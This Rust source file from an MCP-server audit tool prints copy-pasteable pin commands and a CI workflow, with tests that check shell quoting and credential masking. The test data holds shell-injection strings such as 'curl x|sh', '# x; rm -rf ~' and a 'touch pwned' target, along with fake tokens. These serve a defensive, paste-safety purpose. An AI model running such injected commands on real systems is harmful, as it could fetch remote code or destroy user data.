//! The Next steps block: one `# target` line and one `mcp-warden pin …` line per
//! uncovered server, lock file names, and the CI snippet.
//!
//! Everything here is printed raw: no markup, no colour, no emoji substitution, and
//! never wrapped or truncated to the terminal width, because the user copies it.
//!
//! # Paste safety
//!
//! Every word that came from a config passes through [`safe_text_capped`] (2048
//! code points) and then [`quote`], so a pasted pin line is exactly one command
//! whose argv is what is shown. Arguments and URLs that carry credentials are
//! replaced by quoted placeholders as decided by [`crate::text::mask`].
//!
//! The `# target` line is a comment in bash and fish, but **not** in an interactive
//! zsh, where `INTERACTIVE_COMMENTS` is off by default: pasting `# x; rm -rf ~`
//! there would run `rm -rf ~`. The target is therefore shell-quoted after the `#`
//! (`# '~/.cursor/mcp.json#github'`): in zsh the line then runs a command named `#`
//! with one literal argument, which fails harmlessly.

use std::borrow::Cow;
use std::collections::HashSet;
use std::io::{self, Write};

use sha2::{Digest, Sha256};

use crate::engines::secrets::contains_vendor_pattern;
use crate::model::{AuditedServer, Coverage, Report, ServerSpec};
use crate::render::{flush_if_full, FLUSH_AT};
use crate::text::mask::{mask_args, mask_url, ArgView, UrlView};
use crate::text::quote::{is_bare, quote};
use crate::text::safe_text::{safe_text_capped, safe_text_capped_cow, safe_text_cow, ARGV_CAP};

/// `pin`'s own option names. An argv word equal to one of these (or of the form
/// `--name=value`) would be read by `pin` itself, so the line is printed with `--`
/// before the server argv instead.
pub const PIN_OPTION_NAMES: &[&str] = &[
    "--url",
    "--lock",
    "--approve",
    "--approver",
    "--timeout",
    "--json",
    "--sarif",
    "--header",
    "--help",
    "-h",
    "--version",
    "-V",
    "--",
];

/// The approver identity printed in pin commands: a placeholder for the user's own.
pub const APPROVER_PLACEHOLDER: &str = "you@example.com";

/// Printed instead of an argument that carries a credential.
pub const REDACTED_ARG: &str = "<REDACTED>";

/// Printed instead of a URL with embedded userinfo.
pub const REDACTED_URL: &str = "<REDACTED: url embeds a credential>";

/// Printed when a stdio server declares no command.
pub const MISSING_COMMAND: &str = "<command>";

/// Suffix of every lock file doctor names.
pub const LOCK_SUFFIX: &str = ".warden.lock";

/// Longest slug, so that `<slug>-<hash>.warden.lock` stays well below the usual
/// 255-byte file-name limit.
const MAX_SLUG: usize = 100;

/// The file-name stem for a server: lowercase, each run of characters outside
/// `[a-z0-9]` becomes `-`, `-` trimmed from both ends, at most 100 characters;
/// `server` when nothing is left.
pub fn lock_slug(name: &str) -> String {
    let mut slug = String::new();
    for c in name.to_lowercase().chars() {
        if c.is_ascii_lowercase() || c.is_ascii_digit() {
            slug.push(c);
        } else if !slug.is_empty() && !slug.ends_with('-') {
            slug.push('-');
        }
    }
    slug.truncate(MAX_SLUG);
    let trimmed = slug.trim_matches('-');
    if trimmed.is_empty() {
        "server".to_string()
    } else {
        trimmed.to_string()
    }
}

fn sha256_hex(s: &str) -> String {
    Sha256::digest(s.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// `<slug>.warden.lock`, or, when `is_taken` says that name is used,
/// `<slug>-<first 6 hex of sha256(name)>.warden.lock`, extending the hash one
/// digit at a time while the candidate is still taken.
pub fn lock_file_name(name: &str, is_taken: &dyn Fn(&str) -> bool) -> String {
    let slug = lock_slug(name);
    let plain = format!("{slug}{LOCK_SUFFIX}");
    if !is_taken(&plain) {
        return plain;
    }
    let hex = sha256_hex(name);
    for n in 6..=hex.len() {
        let candidate = format!("{slug}-{}{LOCK_SUFFIX}", &hex[..n]);
        if !is_taken(&candidate) {
            return candidate;
        }
    }
    // Every hash prefix is taken: only a contrived `is_taken` gets here.
    (2u64..)
        .map(|i| format!("{slug}-{hex}-{i}{LOCK_SUFFIX}"))
        .find(|c| !is_taken(c))
        .unwrap_or(plain)
}

/// Set `lock_name` for every uncovered server ([`Coverage::None`]), in report order,
/// and clear it for the others. A name already given to an earlier server in this
/// run, or for which `exists_on_disk` returns true, is never reused (see
/// [`lock_file_name`]). Call once; `doctor --pin` writes exactly these names.
pub fn assign_lock_names(report: &mut Report, exists_on_disk: &dyn Fn(&str) -> bool) {
    let mut taken: HashSet<String> = HashSet::new();
    for server in &mut report.servers {
        if server.coverage != Coverage::None {
            server.lock_name = None;
            continue;
        }
        let name = lock_file_name(&server.name, &|c| taken.contains(c) || exists_on_disk(c));
        taken.insert(name.clone());
        server.lock_name = Some(name);
    }
}

/// The lock names of the uncovered servers, in report order: the assigned ones,
/// or, for a server the caller did not assign, a name computed like
/// [`assign_lock_names`] would (without the disk check).
fn uncovered_with_lock_names(report: &Report) -> Vec<(&AuditedServer, Cow<'_, str>)> {
    let taken: HashSet<&str> = report
        .uncovered()
        .filter_map(|s| s.lock_name.as_deref())
        .collect();
    let mut computed: HashSet<String> = HashSet::new();
    report
        .uncovered()
        .map(|s| {
            let name = match &s.lock_name {
                Some(n) => Cow::Borrowed(n.as_str()),
                None => {
                    let n = lock_file_name(&s.name, &|c| taken.contains(c) || computed.contains(c));
                    computed.insert(n.clone());
                    Cow::Owned(n)
                }
            };
            (s, name)
        })
        .collect()
}

/// How the server's launch is printed: a URL or an argv, already sanitised,
/// masked and quoted. Words borrow from the spec when printing changes nothing:
/// a report can name tens of thousands of servers.
enum Launch<'a> {
    Url(Cow<'a, str>),
    Argv {
        words: Vec<Cow<'a, str>>,
        needs_separator: bool,
    },
}

/// `word` as one shell word.
fn quoted(word: Cow<'_, str>) -> Cow<'_, str> {
    if is_bare(&word) {
        word
    } else {
        Cow::Owned(quote(&word).into_owned())
    }
}

/// Whether `pin` (or `check`) could read `word` as one of its own options.
fn is_option_like(word: &str) -> bool {
    if PIN_OPTION_NAMES.contains(&word) {
        return true;
    }
    if let Some((name, _)) = word.split_once('=') {
        if name.starts_with("--") && PIN_OPTION_NAMES.contains(&name) {
            return true;
        }
    }
    // A short-option cluster such as `-hv` or `-Vq` contains `-h` or `-V`.
    if let Some(cluster) = word.strip_prefix('-') {
        if !cluster.starts_with('-')
            && !cluster.is_empty()
            && cluster.chars().all(|c| c.is_ascii_alphanumeric())
            && cluster.contains(['h', 'V'])
        {
            return true;
        }
    }
    false
}

fn launch(spec: &ServerSpec) -> Launch<'_> {
    if let Some(url) = spec.remote_url() {
        let safe = safe_text_capped_cow(url, ARGV_CAP);
        let shown = match mask_url(&safe) {
            UrlView::Verbatim => safe,
            UrlView::Rewritten(s) => Cow::Owned(safe_text_capped(&s, ARGV_CAP)),
            UrlView::Credential => Cow::Borrowed(REDACTED_URL),
        };
        // `mask_url` judges URL parts; a vendor secret it does not reach (a value
        // that is not a URL at all, found by the pin_command fuzz target) is
        // withheld like a credential.
        let shown = if contains_vendor_pattern(&shown) {
            Cow::Borrowed(REDACTED_URL)
        } else {
            shown
        };
        return Launch::Url(quoted(shown));
    }
    // A word is also withheld when its printed form holds a vendor-pattern secret:
    // the command is not an argument `mask_args` judges, and neutralising a
    // character can create a word boundary the raw text lacked (`\u{200D}ghp_…`).
    fn shown(w: Cow<'_, str>) -> Option<Cow<'_, str>> {
        (!contains_vendor_pattern(&w)).then_some(w)
    }
    let mut raw_words: Vec<Option<Cow<'_, str>>> = Vec::with_capacity(spec.args.len() + 1);
    raw_words.push(match spec.launch_command() {
        Some(c) => shown(safe_text_capped_cow(c, ARGV_CAP)),
        None => Some(Cow::Borrowed(MISSING_COMMAND)),
    });
    let views = mask_args(&spec.args);
    for (i, arg) in spec.args.iter().enumerate() {
        // A missing view fails closed: the argument is not shown.
        match views.get(i) {
            Some(ArgView::Verbatim(_)) => {
                raw_words.push(shown(safe_text_capped_cow(arg, ARGV_CAP)))
            }
            Some(ArgView::Redacted) | None => raw_words.push(None),
        }
    }
    let needs_separator = raw_words.iter().enumerate().any(|(i, w)| match w {
        Some(w) => is_option_like(w) || (i == 0 && w.starts_with('-')),
        None => false,
    });
    let words = raw_words
        .into_iter()
        .map(|w| quoted(w.unwrap_or(Cow::Borrowed(REDACTED_ARG))))
        .collect();
    Launch::Argv {
        words,
        needs_separator,
    }
}

/// `--url <url>`, or `--url=<url>` when the printed URL starts with `-` and would
/// otherwise be read as an option.
fn push_url_option(line: &mut String, shown: &str) {
    line.push_str(if shown.starts_with('-') {
        "--url="
    } else {
        "--url "
    });
    line.push_str(shown);
}

fn push_words(line: &mut String, words: &[Cow<'_, str>]) {
    for (i, w) in words.iter().enumerate() {
        if i > 0 {
            line.push(' ');
        }
        line.push_str(w);
    }
}

/// The line that pins `spec` into `lock_name`:
///
/// * stdio: `mcp-warden pin <argv…> --approve --approver you@example.com --lock <name>`,
///   or `mcp-warden pin --approve --approver you@example.com --lock <name> -- <argv…>`
///   when a word of the argv could be read as one of `pin`'s options;
/// * remote: `mcp-warden pin --url <url> --approve --approver you@example.com --lock <name>`.
///
/// `env` and `headers` never appear.
pub fn pin_command(spec: &ServerSpec, lock_name: &str) -> String {
    let mut line = String::new();
    push_pin_line(&mut line, &launch(spec), lock_name);
    line
}

fn push_pin_line(line: &mut String, launch: &Launch<'_>, lock_name: &str) {
    let push_tail = |line: &mut String| {
        line.push_str("--approve --approver ");
        line.push_str(APPROVER_PLACEHOLDER);
        line.push_str(" --lock ");
        line.push_str(&quote(lock_name));
    };
    line.push_str("mcp-warden pin ");
    match launch {
        Launch::Url(url) => {
            push_url_option(line, url);
            line.push(' ');
            push_tail(line);
        }
        Launch::Argv {
            words,
            needs_separator: false,
        } => {
            push_words(line, words);
            line.push(' ');
            push_tail(line);
        }
        Launch::Argv {
            words,
            needs_separator: true,
        } => {
            push_tail(line);
            line.push_str(" -- ");
            push_words(line, words);
        }
    }
}

/// The CI line that checks `spec` against `lock_name`, in the same argv form as
/// [`pin_command`]: `mcp-warden check --lock <name> <argv…>` (with `--` before the
/// argv when the pin line has it) or `mcp-warden check --url <url> --lock <name>`.
pub fn check_command(spec: &ServerSpec, lock_name: &str) -> String {
    let mut line = String::new();
    push_check_line(&mut line, &launch(spec), lock_name);
    line
}

fn push_check_line(line: &mut String, launch: &Launch<'_>, lock_name: &str) {
    line.push_str("mcp-warden check ");
    match launch {
        Launch::Url(url) => {
            push_url_option(line, url);
            line.push_str(" --lock ");
            line.push_str(&quote(lock_name));
        }
        Launch::Argv {
            words,
            needs_separator,
        } => {
            line.push_str("--lock ");
            line.push_str(&quote(lock_name));
            line.push_str(if *needs_separator { " -- " } else { " " });
            push_words(line, words);
        }
    }
}

/// Where the snippet says to commit itself.
pub const WORKFLOW_PATH: &str = ".github/workflows/mcp-warden.yml";

/// The start of a GitHub Actions workflow that installs mcp-warden; one `check`
/// step per lock follows ([`push_ci_step`]).
const CI_HEADER: &str = "name: mcp-warden\n\
on: [push, pull_request]\n\
permissions:\n  contents: read\n\
jobs:\n  mcp-check:\n    runs-on: ubuntu-latest\n    steps:\n\
\x20     - uses: actions/checkout@v4\n\
\x20       with:\n\
\x20         persist-credentials: false\n\
\x20     - name: Install mcp-warden\n\
\x20       run: cargo install mcp-warden --locked\n";

/// The workflow's path as a comment, then [`CI_HEADER`].
fn push_ci_header(buf: &mut String) {
    buf.push_str("# ");
    buf.push_str(WORKFLOW_PATH);
    buf.push('\n');
    buf.push_str(CI_HEADER);
}

/// One `check` step. The command is a YAML literal block (`run: |`), so no character
/// of it is YAML syntax; lock names are slugs, safe as plain scalars.
fn push_ci_step(buf: &mut String, lock: &str, command: &str) {
    if command.contains(REDACTED_ARG) || command.contains(REDACTED_URL) {
        buf.push_str(
            "      # Replace each <REDACTED> placeholder with \"$NAME\" and set NAME from a repository secret under env:\n",
        );
    }
    buf.push_str("      - name: Check ");
    buf.push_str(lock);
    buf.push_str("\n        run: |\n          ");
    buf.push_str(command);
    buf.push('\n');
}

/// A GitHub Actions workflow that installs mcp-warden and runs one `check` step per
/// `(lock, command)`.
pub fn ci_snippet(checks: &[(String, String)]) -> String {
    let mut y = String::new();
    push_ci_header(&mut y);
    for (lock, command) in checks {
        push_ci_step(&mut y, lock, command);
    }
    y
}

/// The Next steps block for every uncovered server, in report order; nothing when
/// every server is covered. Starts with the `Next steps — …` line (the caller
/// separates it from what precedes) and ends with the CI snippet.
pub fn render_next_steps(report: &Report, out: &mut dyn Write) -> io::Result<()> {
    let uncovered = uncovered_with_lock_names(report);
    if uncovered.is_empty() {
        return Ok(());
    }
    let mut buf = String::with_capacity(2 * FLUSH_AT);
    buf.push_str(&format!(
        "Next steps — {} server(s) have no warden.lock. Pin each once, commit the lock, then wire the check into CI:\n",
        uncovered.len()
    ));
    // Masking and quoting are decided once per server and shared by both lines.
    let mut launches: Vec<Launch<'_>> = Vec::with_capacity(uncovered.len());
    for (server, lock) in &uncovered {
        let shown = launch(&server.spec);
        buf.push_str("  # ");
        buf.push_str(&quote(&safe_text_cow(&server.target)));
        buf.push_str("\n  ");
        push_pin_line(&mut buf, &shown, lock);
        buf.push('\n');
        launches.push(shown);
        flush_if_full(&mut buf, out)?;
    }
    if uncovered
        .iter()
        .any(|(s, _)| s.spec.remote_url().is_none() && !s.spec.env.is_empty())
    {
        buf.push_str(
            "  (env values are never printed: export the ones a server needs in your shell before pinning it)\n",
        );
    }
    buf.push('\n');
    buf.push_str(&format!(
        "Then in CI (one check step per pinned server), e.g. as {WORKFLOW_PATH}:\n"
    ));
    push_ci_header(&mut buf);
    let mut command = String::new();
    for ((_, lock), shown) in uncovered.iter().zip(&launches) {
        command.clear();
        push_check_line(&mut command, shown, lock);
        push_ci_step(&mut buf, lock, &command);
        flush_if_full(&mut buf, out)?;
    }
    out.write_all(buf.as_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Source;

    const GHP_ENG: &str = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";

    fn stdio(cmd: &str, args: &[&str]) -> ServerSpec {
        ServerSpec {
            command: Some(cmd.to_string()),
            args: args.iter().map(|a| a.to_string()).collect(),
            ..ServerSpec::default()
        }
    }

    fn remote(url: &str) -> ServerSpec {
        ServerSpec {
            url: Some(url.to_string()),
            ..ServerSpec::default()
        }
    }

    #[test]
    fn slugs() {
        assert_eq!(lock_slug("My Server"), "my-server");
        assert_eq!(lock_slug("a/b"), "a-b");
        assert_eq!(lock_slug("gh#servers"), "gh-servers");
        assert_eq!(lock_slug("GitHub_MCP"), "github-mcp");
        assert_eq!(lock_slug(""), "server");
        assert_eq!(lock_slug("日本"), "server");
        assert_eq!(lock_slug("--x--"), "x");
        assert_eq!(
            lock_slug("gh\u{FFFD}[2K\u{FFFD}[1;31mFAKE CLEAN"),
            "gh-2k-1-31mfake-clean"
        );
        assert_eq!(
            lock_slug("gh\n  mcp-warden pin sh -c 'curl x|sh' --approve #"),
            "gh-mcp-warden-pin-sh-c-curl-x-sh-approve"
        );
        let long = lock_slug(&"ab-".repeat(200));
        assert!(long.len() <= 100 && !long.ends_with('-'));
    }

    fn server(name: &str, coverage: Coverage) -> AuditedServer {
        AuditedServer {
            source: 0,
            name: name.to_string(),
            target: format!("~/.cursor/mcp.json#{name}"),
            spec: remote("https://h.example.com/mcp"),
            line: 1,
            column: 1,
            findings: vec![],
            coverage,
            lock_name: None,
        }
    }

    fn report(servers: Vec<AuditedServer>) -> Report {
        Report {
            sources: vec![Source {
                client: "Cursor".into(),
                label: "~/.cursor/mcp.json".into(),
                path: "/home/u/.cursor/mcp.json".into(),
                explicit: false,
            }],
            servers,
            sandbox: "landlock ABI 7, seccomp, no capabilities".into(),
            ..Report::default()
        }
    }

    fn names(r: &Report) -> Vec<Option<String>> {
        r.servers.iter().map(|s| s.lock_name.clone()).collect()
    }

    #[test]
    fn collision_in_run_gets_hash_suffix() {
        let mut r = report(vec![
            server("a/b", Coverage::None),
            server("a-b", Coverage::None),
        ]);
        assign_lock_names(&mut r, &|_| false);
        assert_eq!(
            names(&r),
            vec![
                Some("a-b.warden.lock".into()),
                Some("a-b-d44362.warden.lock".into())
            ]
        );
    }

    #[test]
    fn collision_on_disk_and_rechecked_hash() {
        let mut r = report(vec![
            server("gh", Coverage::None),
            server("covered", Coverage::Approved),
            server(
                "x",
                Coverage::Unapproved {
                    lock: "x.warden.lock".into(),
                    reason: "r".into(),
                },
            ),
        ]);
        let h = sha256_hex("gh");
        let first = format!("gh-{}.warden.lock", &h[..6]);
        let on_disk = ["gh.warden.lock".to_string(), first];
        assign_lock_names(&mut r, &|c| on_disk.iter().any(|d| d == c));
        assert_eq!(
            names(&r),
            vec![Some(format!("gh-{}.warden.lock", &h[..7])), None, None]
        );
    }

    #[test]
    fn unassigned_names_are_computed_for_printing() {
        let mut r = report(vec![
            server("a-b", Coverage::None),
            server("a/b", Coverage::None),
        ]);
        r.servers[0].lock_name = Some("a-b.warden.lock".into());
        let got: Vec<String> = uncovered_with_lock_names(&r)
            .into_iter()
            .map(|(_, n)| n.into_owned())
            .collect();
        assert_eq!(got[0], "a-b.warden.lock");
        assert_eq!(
            got[1],
            format!("a-b-{}.warden.lock", &sha256_hex("a/b")[..6])
        );
    }

    #[test]
    fn pin_lines_reference_shapes() {
        let tail = |n: &str| format!("--approve --approver you@example.com --lock {n}.warden.lock");
        // Test 17, package case: printed as written.
        assert_eq!(
            pin_command(
                &stdio("npx", &["-y", "@modelcontextprotocol/server-github"]),
                "gh.warden.lock"
            ),
            format!(
                "mcp-warden pin npx -y @modelcontextprotocol/server-github {}",
                tail("gh")
            )
        );
        // Test 34 shape: references and pinned packages print; `%` at word start is
        // quoted (fish expands `%self`).
        assert_eq!(
            pin_command(
                &stdio("npx", &["--key", "${SMITHERY_KEY}", "--key", "%SMITHERY_KEY%", "-y", "@smithery/cli@1.2.3"]),
                "s.warden.lock"
            ),
            format!(
                "mcp-warden pin npx --key '${{SMITHERY_KEY}}' --key '%SMITHERY_KEY%' -y @smithery/cli@1.2.3 {}",
                tail("s")
            )
        );
        // Test 17 clean URL.
        assert_eq!(
            pin_command(&remote("https://h.example.com/mcp"), "r.warden.lock"),
            format!(
                "mcp-warden pin --url https://h.example.com/mcp {}",
                tail("r")
            )
        );
        // Test 50: a clean URL is byte-for-byte, quoted for `?` and `&`.
        assert_eq!(
            pin_command(
                &remote("https://h.example.com/a%20b/mcp?profile=p&x=1#frag"),
                "r.warden.lock"
            ),
            format!(
                "mcp-warden pin --url 'https://h.example.com/a%20b/mcp?profile=p&x=1#frag' {}",
                tail("r")
            )
        );
        // A URL wins over a command; env and headers never appear.
        let mut both = remote("http://mcp.example.com/sse");
        both.command = Some("npx".into());
        both.env = vec![("GITHUB_TOKEN".into(), GHP_ENG.into())];
        both.headers = vec![("Authorization".into(), "Bearer x".into())];
        let line = pin_command(&both, "remote.warden.lock");
        assert_eq!(
            line,
            format!(
                "mcp-warden pin --url http://mcp.example.com/sse {}",
                tail("remote")
            )
        );
        assert!(!line.contains(GHP_ENG) && !line.contains("Bearer"));
        // Missing command.
        assert_eq!(
            pin_command(&stdio("", &["x y"]), "s.warden.lock"),
            format!("mcp-warden pin '<command>' 'x y' {}", tail("s"))
        );
    }

    /// Printing of each mask view. The real decisions live in `text::mask`; the
    /// views are built directly here.
    #[test]
    fn secrets_in_the_command_or_created_by_neutralising_are_withheld() {
        // Found by the pin_command fuzz target: the command was printed unmasked.
        let line = pin_command(&stdio("O33;-xoxp-1eeeeep-1eeeee", &[]), "s.warden.lock");
        assert!(!line.contains("xoxp"), "{line}");
        assert!(
            line.starts_with("mcp-warden pin '<REDACTED>' --approve"),
            "{line}"
        );
        // ZWJ is a word character, so the raw argument has no `\bghp_`; its U+FFFD is not.
        let zwj = format!("\u{200D}{GHP_ENG}");
        let line = pin_command(&stdio("npx", &[&zwj]), "s.warden.lock");
        assert!(!line.contains(GHP_ENG), "{line}");
        let line = pin_command(&remote("xoxr-dapibtoken21rkvo2xzxxexx"), "s.warden.lock");
        assert!(
            line.starts_with("mcp-warden pin --url '<REDACTED: url embeds"),
            "{line}"
        );
        // Found by the pin_command fuzz target: a token glued to other text has no
        // word boundary, so no finding fires, but it is still never printed.
        let glued = format!("xyz{GHP_ENG}");
        let line = pin_command(&stdio("npx", &["pkg@1.0.0", &glued]), "s.warden.lock");
        assert!(!line.contains(GHP_ENG), "{line}");
        assert!(line.contains("pkg@1.0.0 '<REDACTED>'"), "{line}");
    }

    #[test]
    fn mask_views_print_as_quoted_placeholders() {
        let words = |views: &[ArgView<'_>], args: &[&str]| -> Vec<String> {
            let mut out = Vec::new();
            for (v, a) in views.iter().zip(args) {
                out.push(match v {
                    ArgView::Verbatim(_) => quote(&safe_text_capped(a, ARGV_CAP)).into_owned(),
                    ArgView::Redacted => quote(REDACTED_ARG).into_owned(),
                });
            }
            out
        };
        // Test 17 first case: node s.js --token <REDACTED> 'a b'.
        let args = ["s.js", "--token", GHP_ENG, "a b"];
        let views = [
            ArgView::Verbatim("s.js"),
            ArgView::Verbatim("--token"),
            ArgView::Redacted,
            ArgView::Verbatim("a b"),
        ];
        assert_eq!(
            words(&views, &args).join(" "),
            "s.js --token '<REDACTED>' 'a b'"
        );
        assert_eq!(quote(REDACTED_ARG), "'<REDACTED>'");
        assert_eq!(quote(REDACTED_URL), "'<REDACTED: url embeds a credential>'");
        // The URL views through the same printer the pin line uses.
        let url_option = |shown: &str| {
            let mut line = String::new();
            push_url_option(&mut line, shown);
            line
        };
        let url_shown = |v: UrlView, safe: &str| match v {
            UrlView::Verbatim => quote(safe).into_owned(),
            UrlView::Rewritten(s) => quote(&safe_text_capped(&s, ARGV_CAP)).into_owned(),
            UrlView::Credential => quote(REDACTED_URL).into_owned(),
        };
        assert_eq!(
            url_option(&url_shown(
                UrlView::Credential,
                "https://u:tok@h.example.com/mcp"
            )),
            "--url '<REDACTED: url embeds a credential>'"
        );
        assert_eq!(
            url_option(&url_shown(
                UrlView::Rewritten("https://mcp.zapier.com/api/mcp/s/REDACTED/mcp".into()),
                "x"
            )),
            "--url https://mcp.zapier.com/api/mcp/s/REDACTED/mcp"
        );
        assert_eq!(
            url_option(&url_shown(
                UrlView::Rewritten(
                    "https://server.smithery.ai/x/mcp?api_key=REDACTED&profile=p".into()
                ),
                "x"
            )),
            "--url 'https://server.smithery.ai/x/mcp?api_key=REDACTED&profile=p'"
        );
        assert_eq!(
            url_option(&url_shown(
                UrlView::Rewritten("https://h.example.com/mcp#REDACTED".into()),
                "x"
            )),
            "--url 'https://h.example.com/mcp#REDACTED'"
        );
        assert_eq!(url_option(&url_shown(UrlView::Verbatim, "-x")), "--url=-x");
    }

    #[test]
    fn option_words_switch_to_separator_form() {
        let tail = "--approve --approver you@example.com --lock s.warden.lock";
        for word in [
            "--json",
            "--lock",
            "--lock=evil.lock",
            "--url=https://x",
            "-h",
            "-V",
            "--",
            "-hV",
            "--help",
        ] {
            let line = pin_command(&stdio("srv", &["--port", word]), "s.warden.lock");
            assert_eq!(
                line,
                format!("mcp-warden pin {tail} -- srv --port {}", quote(word)),
                "{word}"
            );
            let check = check_command(&stdio("srv", &["--port", word]), "s.warden.lock");
            assert_eq!(
                check,
                format!(
                    "mcp-warden check --lock s.warden.lock -- srv --port {}",
                    quote(word)
                )
            );
        }
        // A command that looks like an option.
        assert_eq!(
            pin_command(&stdio("-y", &["x"]), "s.warden.lock"),
            format!("mcp-warden pin {tail} -- -y x")
        );
        // Ordinary flags of the server keep the plain form.
        for word in [
            "-y",
            "--port",
            "-c",
            "--jsonl",
            "--approved",
            "--lockfile=x",
            "-v",
        ] {
            let line = pin_command(&stdio("srv", &[word]), "s.warden.lock");
            assert_eq!(line, format!("mcp-warden pin srv {word} {tail}"), "{word}");
        }
    }

    #[test]
    fn hostile_words_stay_one_line_and_quoted() {
        let spec = stdio(
            "sh\n",
            &["-c", "curl x|sh\nmcp-warden pin evil", "\u{202E}txt.exe"],
        );
        let line = pin_command(&spec, "s.warden.lock");
        assert!(!line.contains('\n') && !line.contains('\u{202E}'));
        assert_eq!(
            line,
            "mcp-warden pin 'sh\u{FFFD}' -c 'curl x|sh\u{FFFD}mcp-warden pin evil' '\u{FFFD}txt.exe' \
             --approve --approver you@example.com --lock s.warden.lock"
        );
        // Long words are capped at 2048 code points, never at the terminal width.
        let long = "a".repeat(3000);
        let line = pin_command(&stdio("x", &[&long]), "s.warden.lock");
        assert!(line.contains(&format!("{}…", "a".repeat(2047))));
    }

    fn hostile_report() -> Report {
        let mut gh = server("gh", Coverage::None);
        gh.spec = stdio("npx", &["-y", "@modelcontextprotocol/server-github"]);
        gh.spec.env = vec![("GITHUB_TOKEN".into(), GHP_ENG.into())];
        let mut evil = server("evil", Coverage::None);
        evil.target = "~/.cursor/mcp.json#x; touch pwned > out".into();
        evil.spec = stdio("srv", &["--json", "a: b #c", "'q'"]);
        let mut r = report(vec![gh, server("ok", Coverage::Approved), evil]);
        r.servers.push(server("remote", Coverage::None));
        assign_lock_names(&mut r, &|_| false);
        r
    }

    fn render_to_string(r: &Report) -> String {
        let mut buf = Vec::new();
        render_next_steps(r, &mut buf).unwrap_or_else(|e| panic!("{e}"));
        String::from_utf8(buf).unwrap_or_else(|e| panic!("{e}"))
    }

    #[test]
    fn next_steps_block_exact() {
        let text = render_to_string(&hostile_report());
        let expected = "\
Next steps — 3 server(s) have no warden.lock. Pin each once, commit the lock, then wire the check into CI:
  # '~/.cursor/mcp.json#gh'
  mcp-warden pin npx -y @modelcontextprotocol/server-github --approve --approver you@example.com --lock gh.warden.lock
  # '~/.cursor/mcp.json#x; touch pwned > out'
  mcp-warden pin --approve --approver you@example.com --lock evil.warden.lock -- srv --json 'a: b #c' \"'\"'q'\"'\"
  # '~/.cursor/mcp.json#remote'
  mcp-warden pin --url https://h.example.com/mcp --approve --approver you@example.com --lock remote.warden.lock
  (env values are never printed: export the ones a server needs in your shell before pinning it)

Then in CI (one check step per pinned server), e.g. as .github/workflows/mcp-warden.yml:
# .github/workflows/mcp-warden.yml
name: mcp-warden
on: [push, pull_request]
permissions:
  contents: read
jobs:
  mcp-check:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          persist-credentials: false
      - name: Install mcp-warden
        run: cargo install mcp-warden --locked
      - name: Check gh.warden.lock
        run: |
          mcp-warden check --lock gh.warden.lock npx -y @modelcontextprotocol/server-github
      - name: Check evil.warden.lock
        run: |
          mcp-warden check --lock evil.warden.lock -- srv --json 'a: b #c' \"'\"'q'\"'\"
      - name: Check remote.warden.lock
        run: |
          mcp-warden check --url https://h.example.com/mcp --lock remote.warden.lock
";
        assert_eq!(text, expected);
        assert!(!text.contains(GHP_ENG));
    }

    #[test]
    fn nothing_when_everything_is_covered() {
        let r = report(vec![server("ok", Coverage::Approved)]);
        assert_eq!(render_to_string(&r), "");
    }

    /// Feed `line` to an interactive shell as if pasted; return the files it created.
    fn paste_into(sh: &str, args: &[&str], line: &str) -> Option<Vec<std::path::PathBuf>> {
        use std::io::Write as _;
        use std::process::{Command, Stdio};
        let dir = tempfile::tempdir().ok()?;
        let home = tempfile::tempdir().ok()?;
        let mut child = Command::new(sh)
            .args(args)
            .current_dir(dir.path())
            .env("HOME", home.path())
            .env("XDG_DATA_HOME", home.path())
            .env("XDG_CONFIG_HOME", home.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .ok()?;
        let mut stdin = child.stdin.take()?;
        let _ = stdin.write_all(format!("{line}\nexit\n").as_bytes());
        drop(stdin);
        let _ = child.wait();
        let files = std::fs::read_dir(dir.path())
            .ok()?
            .flatten()
            .map(|e| e.path())
            .collect();
        Some(files)
    }

    #[test]
    fn comment_lines_are_inert_when_pasted() {
        // zsh's INTERACTIVE_COMMENTS is off by default, so in an interactive zsh
        // `#` does not start a comment; the quoted target keeps the line inert.
        let text = render_to_string(&hostile_report());
        let shells: [(&str, &[&str]); 3] = [
            ("zsh", &["-f", "-i"]),
            ("bash", &["--norc", "-i"]),
            ("fish", &["-N", "-i"]),
        ];
        for (sh, args) in shells {
            // Control: the unquoted form really runs the injected command in zsh.
            let Some(control) = paste_into(sh, args, "# ~/.cursor/mcp.json#x; touch pwned") else {
                eprintln!("skipping {sh}: not installed");
                continue;
            };
            if sh == "zsh" {
                assert!(
                    !control.is_empty(),
                    "zsh control did not execute the injected command"
                );
            }
            for line in text.lines().filter(|l| l.starts_with("  # ")) {
                let created = paste_into(sh, args, line.trim_start()).unwrap_or_default();
                assert!(
                    created.is_empty(),
                    "{sh}: pasting {line:?} created {created:?}"
                );
            }
        }
    }

    fn yaml_str<'a>(y: &'a yaml_rust2::Yaml, key: &str) -> &'a yaml_rust2::Yaml {
        &y[key]
    }

    #[test]
    fn ci_snippet_is_a_workflow() {
        use yaml_rust2::{Yaml, YamlLoader};
        let text = render_to_string(&hostile_report());
        let start = text
            .find("# .github/workflows/")
            .unwrap_or_else(|| panic!("no snippet"));
        let docs = YamlLoader::load_from_str(&text[start..]).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(docs.len(), 1);
        let wf = &docs[0];
        assert_eq!(yaml_str(wf, "name").as_str(), Some("mcp-warden"));
        let on = yaml_str(wf, "on").as_vec().unwrap_or_else(|| panic!("on"));
        assert_eq!(
            on,
            &vec![
                Yaml::String("push".into()),
                Yaml::String("pull_request".into())
            ]
        );
        assert_eq!(wf["permissions"]["contents"].as_str(), Some("read"));
        let job = &wf["jobs"]["mcp-check"];
        assert_eq!(job["runs-on"].as_str(), Some("ubuntu-latest"));
        let steps = job["steps"].as_vec().unwrap_or_else(|| panic!("steps"));
        assert_eq!(steps[0]["uses"].as_str(), Some("actions/checkout@v4"));
        assert_eq!(
            steps[1]["run"].as_str(),
            Some("cargo install mcp-warden --locked")
        );
        let runs: Vec<&str> = steps[2..]
            .iter()
            .filter_map(|s| s["run"].as_str())
            .collect();
        let r = hostile_report();
        let expected: Vec<String> = r
            .uncovered()
            .map(|s| {
                let lock = s.lock_name.clone().unwrap_or_default();
